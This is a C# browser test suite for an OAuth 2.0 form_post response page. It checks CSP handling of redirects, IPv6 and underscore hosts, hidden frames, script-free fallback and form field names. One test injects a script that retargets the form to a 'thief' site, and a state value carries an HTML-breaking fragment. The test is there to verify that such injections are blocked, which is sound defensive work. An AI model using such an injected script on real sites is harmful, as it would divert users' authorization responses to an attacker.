using LinkErrors.BrowserTests.Browsers;
using LinkErrors.BrowserTests.Sites;

namespace LinkErrors.BrowserTests.Pages;

/// <summary>
/// OAuth 2.0 Form Post Response Mode, as a person meets it: whatever the client does with the form, and wherever it stands,
/// the browser ends where the client wants it.
/// </summary>
[Collection(SharedBrowsers.Name)]
public sealed class FormPostTests(BrowserFixture browsers)
{
    private const string Form = "error=access_denied&error_description=The request was denied.&state=a+b\"><c";

    /// <summary>Browsers hold <c>form-action</c> against each redirect behind a form (CSP Level 3 §6.4.1), and those are the client's own.</summary>
    [Theory, InChromium, InWebKit]
    public async Task Callback_ThatRedirectsToAThirdOrigin_EndsThere(BrowserEngine engine)
    {
        await using ClientSite third = await ClientSite.StartAsync();
        await using ClientSite client = await ClientSite.StartAsync("localhost");
        await using LinkingService service = await LinkingService.StartAsync(client.At("/cb"));
        await using IBrowser browser = await browsers.OpenAsync(engine);
        client.Next = third.At("/done");

        await browser.OpenAsync(service.Authorize("form_post"));

        await ShouldEndAsync(browser, client, third);
        service.Violations.TakeRest().Should().BeEmpty("a page that breaks its own policy is not done");
    }

    /// <summary>The grammar of a policy has no brackets (CSP Level 3 §2.3.1); RFC 8252 §7.3 has such targets.</summary>
    [Theory, InChromium(NeedsIPv6 = true), InWebKit(NeedsIPv6 = true)]
    public Task Callback_OfAnIPv6Address_EndsThere(BrowserEngine engine) => ShouldEndAtAsync(engine, "[::1]");

    /// <summary>Nor an underscore.</summary>
    [Theory, InChromium, InWebKit]
    public Task Callback_OfAHostWithAnUnderscore_EndsThere(BrowserEngine engine) => ShouldEndAtAsync(engine, "a_b.localhost");

    /// <summary>OpenID Connect Core §3.1.2.1: <c>prompt=none</c> is asked in a frame that nobody sees.</summary>
    [Theory, InChromium, InWebKit]
    public async Task HiddenFrame_OfTheTargetsOrigin_EndsThere(BrowserEngine engine)
    {
        await using ClientSite client = await ClientSite.StartAsync("localhost");
        await using LinkingService service = await LinkingService.StartAsync(client.At("/cb"));
        await using IBrowser browser = await browsers.OpenAsync(engine);
        string page = client.Framing(service.Authorize("form_post"));

        await browser.OpenAsync(page);

        (await client.Forms.TakeAsync()).Should().Be(Form);
        (await client.Arrivals.TakeAsync()).Should().Be(client.At("/done"));
        (await browser.ReadUrlAsync()).Should().Be(page, "only the frame went on");
        service.Violations.TakeRest().Should().BeEmpty();
    }

    /// <summary>RFC 9700 §4.16.</summary>
    [Theory, InChromium, InWebKit]
    public async Task HiddenFrame_OfAnotherOrigin_StaysEmpty(BrowserEngine engine)
    {
        await using ClientSite stranger = await ClientSite.StartAsync("localhost");
        await using ClientSite client = await ClientSite.StartAsync("localhost");
        await using LinkingService service = await LinkingService.StartAsync(client.At("/cb"));
        await using IBrowser browser = await browsers.OpenAsync(engine);

        await browser.OpenAsync(stranger.Framing(service.Authorize("form_post")));

        (await service.Violations.TakeAsync()).Should().Contain("frame-ancestors");
        client.Forms.TakeRest().Should().BeEmpty();
    }

    [Theory, InChromium]
    public Task Page_WhereScriptsAreOff_HasAButtonAndSaysSo(BrowserEngine engine) => ShouldEndByHandAsync(engine, runsScripts: false, directives: "");

    /// <summary>The same without a switch in the browser: a sandbox that allows forms and no scripts.</summary>
    [Theory, InChromium, InWebKit]
    public Task Page_WhereAPolicyForbidsScripts_HasAButtonAndSaysSo(BrowserEngine engine) =>
        ShouldEndByHandAsync(engine, runsScripts: true, directives: "; sandbox allow-forms allow-same-origin");

    /// <summary>The policy is the second lock: a text that is not encoded does not run.</summary>
    [Theory, InChromium, InWebKit]
    public async Task Script_ThatGotIntoThePage_DoesNotRun(BrowserEngine engine)
    {
        await using ClientSite thief = await ClientSite.StartAsync("localhost");
        await using ClientSite client = await ClientSite.StartAsync("localhost");
        await using LinkingService service = await LinkingService.StartAsync(client.At("/cb"));
        await using IBrowser browser = await browsers.OpenAsync(engine);
        service.Injected = $"<script>document.forms[0].action='{thief.At("/cb")}'</script>";

        await browser.OpenAsync(service.Authorize("form_post"));

        await ShouldEndAsync(browser, client, client);
        (await service.Violations.TakeAsync()).Should().Contain("script-src");
        thief.Forms.TakeRest().Should().BeEmpty();
    }

    /// <summary>HTML §4.10.3: a field stands in front of the form's member of the same name, <c>submit()</c> included.</summary>
    [Theory, InChromium, InWebKit]
    public async Task Parameter_NamedSubmit_IsPostedAsAnyOther(BrowserEngine engine)
    {
        await using ClientSite client = await ClientSite.StartAsync("localhost");
        StubDialect dialect = new("acme") { Parameters = parameters => parameters.Add("submit", "yes") };
        await using LinkingService service = await LinkingService.StartAsync(client.At("/cb"), dialect);
        await using IBrowser browser = await browsers.OpenAsync(engine);

        await browser.OpenAsync(service.Authorize("form_post"));

        (await client.Forms.TakeAsync()).Should().Be("stub=access_denied&submit=yes");
        (await client.Arrivals.TakeAsync()).Should().Be(client.At("/done"));
    }

    private static async Task ShouldEndAsync(IBrowser browser, ClientSite client, ClientSite last)
    {
        (await client.Forms.TakeAsync()).Should().Be(Form);
        (await last.Arrivals.TakeAsync()).Should().StartWith(last.At("/"));
        (await browser.ReadUrlAsync()).Should().Be(last.At("/done"));
        client.Forms.TakeRest().Should().BeEmpty("the form is posted once");
    }

    private async Task ShouldEndAtAsync(BrowserEngine engine, string host)
    {
        await using ClientSite client = await ClientSite.StartAsync(host);
        await using LinkingService service = await LinkingService.StartAsync(client.At("/cb"));
        await using IBrowser browser = await browsers.OpenAsync(engine);

        await browser.OpenAsync(service.Authorize("form_post"));

        await ShouldEndAsync(browser, client, client);
        service.Violations.TakeRest().Should().BeEmpty();
    }

    private async Task ShouldEndByHandAsync(BrowserEngine engine, bool runsScripts, string directives)
    {
        await using ClientSite client = await ClientSite.StartAsync("localhost");
        await using LinkingService service = await LinkingService.StartAsync(client.At("/cb"));
        await using IBrowser browser = await browsers.OpenAsync(engine, runsScripts);
        service.Directives = directives;

        await browser.OpenAsync(service.Authorize("form_post"));

        (await browser.ReadTextAsync("main > p")).Should().Contain("press the button");
        client.Forms.TakeRest().Should().BeEmpty("nothing runs by itself");
        await browser.ClickAsync("main button");
        await ShouldEndAsync(browser, client, client);
    }
}
